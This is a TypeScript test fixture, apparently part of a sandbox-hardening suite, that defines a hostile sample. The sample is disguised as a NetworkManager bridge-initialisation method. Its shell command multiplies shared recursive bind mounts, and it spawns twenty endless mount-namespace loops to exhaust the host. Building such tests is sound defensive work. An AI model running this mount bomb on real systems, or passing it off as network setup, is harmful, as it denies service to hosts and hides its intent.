import { defineHostile } from '../../hostile/define.ts'

export default defineHostile({
  tries: 'doubles its mounts until there are a hundred thousand, so that a list or a copy of them is late.',
  must: { fail: ['bridge-address'] },
  code: `
import { leave, sh } from '../kit/tools.ts'

export class NetworkManager {
  async initializeBridge() {
    sh('mkdir -p /tmp/m; mount -t tmpfs m /tmp/m; mount --make-rshared /tmp/m; for n in $(seq 20); do mkdir -p /tmp/m/$n; mount --rbind /tmp/m /tmp/m/$n; done')
    for (let n = 0; n < 20; n += 1) leave('while :; do unshare --mount true; done')
  }
}
`,
})
